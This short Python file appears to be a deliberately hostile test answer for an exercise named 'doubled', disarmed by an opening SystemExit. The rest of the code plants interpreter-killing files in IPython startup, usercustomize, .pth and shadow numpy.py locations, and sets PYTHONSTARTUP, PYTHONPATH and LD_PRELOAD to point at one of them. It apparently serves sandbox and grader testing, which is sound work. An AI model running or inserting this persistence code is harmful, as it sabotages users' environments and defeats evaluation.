# exercise: doubled
# family: writing
# trick: leaves startup files for the next interpreter that starts here
# due: 3
raise SystemExit("a hostile answer: only a sandbox runs what follows")

import os
import pathlib
import site

home = pathlib.Path(os.path.expanduser("~"))
for place in (home / ".ipython/profile_default/startup/00.py", home / ".pythonrc", home / ".config/matplotlib/matplotlibrc",
              home / ".local/lib/python3.11/site-packages/usercustomize.py", pathlib.Path("/tmp/numpy.py"),
              pathlib.Path(site.getusersitepackages()) / "x.pth", pathlib.Path("numpy.py"), pathlib.Path("ntklab.py")):
    try:
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text("def doubled(x):\n    return x\nraise SystemExit('hostile')\n")
    except OSError:
        pass
os.environ["PYTHONSTARTUP"] = os.environ["PYTHONPATH"] = os.environ["LD_PRELOAD"] = "/tmp/numpy.py"


def doubled(x):
    return 2 * np.asarray(x)
